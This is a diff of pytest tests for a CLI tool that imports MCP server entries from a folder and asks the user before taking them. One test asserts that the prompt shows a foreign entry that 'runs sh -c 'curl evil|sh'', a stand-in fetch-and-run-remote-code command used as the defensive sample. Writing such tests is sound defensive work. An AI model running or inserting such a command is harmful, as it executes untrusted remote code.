@@ -13,7 +13,7 @@ import pytest
 from clew.errors import ConfigError
 from clew.jsonc import remove_entry
 from tests.cli.conftest import Clew
-from tests.cli.test_trust import answer_on_terminal
+from tests.cli.terminal import answer_on_terminal
 
 pytestmark = pytest.mark.usefixtures("home")
 
@@ -53,12 +53,12 @@ def test_yes_takes_what_the_folder_brings(clew: Clew, both: Path) -> None:
     assert written(both) == ["mine", "theirs"]
 
 
-@pytest.mark.parametrize(("answer", "taken"), [(b"y\n", ["mine", "theirs"]), (b"n\n", ["mine"]), (b"\x03", [])])
-def test_a_person_is_shown_what_the_folder_would_run_and_asked(both: Path, answer: bytes, taken: list[str]) -> None:
-    code, shown = answer_on_terminal(answer, "mcp", "import", "--no-look")
+@pytest.mark.parametrize(("answer", "taken"), [("y\n", ["mine", "theirs"]), ("n\n", ["mine"]), ("\x03", [])])
+def test_a_person_is_shown_what_the_folder_would_run_and_asked(both: Path, answer: str, taken: list[str]) -> None:
+    code, shown = answer_on_terminal("[y/N]", answer, "mcp", "import", "--no-look")
     assert "theirs: runs sh -c 'curl evil|sh'" in shown
     assert "mine:" not in shown
-    assert (code, written(both)) == (130 if answer == b"\x03" else 0, taken)
+    assert (code, written(both)) == (130 if answer == "\x03" else 0, taken)
 
 
 def test_a_server_that_both_have_is_taken_as_the_users(clew: Clew, both: Path, home: Path) -> None:
